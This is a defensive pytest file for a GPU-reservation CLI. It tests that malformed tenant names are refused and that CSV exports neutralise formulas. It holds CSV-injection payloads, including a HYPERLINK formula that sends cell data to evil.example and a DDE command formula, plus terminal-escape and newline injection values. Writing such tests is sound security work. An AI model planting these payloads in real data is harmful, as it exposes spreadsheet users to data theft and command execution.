"""Attacks: a tenant name carrying control characters (or 20 KiB of them) into tables, logs and invoices;
and a tenant (stored by an older server, or a node or reservation key) that a spreadsheet opening
`bc usage --csv` runs as a formula. Tenant names are now checked like ids, by the CLI and by the Admin
API (exit 2, nothing stored), and every CSV cell that starts with `=`, `+`, `-` or `@` is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from bc.client.admin import AdminClient
from bc.errors import UsageError
from bc.runtime.config import OperatorConfig
from bc.store import capacity as cap_sql
from tests.integration.test_cli_cmd import Lab, bc, lab, ok_json

__all__ = ["lab"]

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("tenant", ["acme\x1b[31m", "acme\nbilled-to: other", "a\u202eb", "=1+1", "a" * 20480])
def test_a_tenant_that_is_not_a_name_is_refused_by_the_cli_and_the_admin_api(lab: Lab, tenant: str) -> None:
    r = bc("reserve", "--gpus", "1", "--tenant", tenant)
    assert r.exit_code == 2, r.output
    assert r.stderr.startswith("error: --tenant") and len(r.stderr.splitlines()) == 1, r.stderr

    async def call() -> None:
        async with AdminClient(OperatorConfig.load(lab.server.operator_config)) as c:  # type: ignore[arg-type]
            await c.reserve(1, tenant=tenant)

    with pytest.raises(UsageError) as refused:
        lab.run(call())
    assert refused.value.message.startswith("the tenant")
    assert ok_json("reservations", "--all") == []


def test_csv_cells_that_start_a_formula_are_written_as_text(lab: Lab) -> None:
    async def stored_by_an_older_server() -> None:
        async with lab.store.transaction() as tx:
            for i, tenant in enumerate(FORMULAS):
                await cap_sql.insert_pending(
                    tx,
                    id_=f"res-{i}",
                    allocation_id=f"alloc-{i}",
                    want_node_id=None,
                    device_class="gpu",
                    gpus=1,
                    binding="hold",
                    start_ms=None,
                    end_ms=None,
                    duration_ms=None,
                    tenant=tenant,
                    selector_json="{}",
                    cpus=0,
                    memory_bytes=0,
                    hugepages_1g=0,
                    now_ms=1_000,
                )
                await cap_sql.settle(tx, f"res-{i}", "released", "released", 3_601_000, ("pending",))
                await cap_sql.insert_usage_window(
                    tx,
                    reservation_id=f"res-{i}",
                    start_ms=1_000,
                    end_ms=3_601_000,
                    node_id="n1",
                    tenant=tenant,
                    device_class="gpu",
                    atoms=1,
                )

    lab.run(stored_by_an_older_server())
    r = bc("usage", "--by", "tenant", "--csv")
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.stdout)))
    assert rows[0][:3] == ["tenant", "atom_seconds", "windows"]
    tenants = {row[0] for row in rows[1:]}
    assert tenants == {"'" + f for f in FORMULAS}, tenants
    assert all(row[1] == "3600.000" for row in rows[1:])  # numbers stay numbers
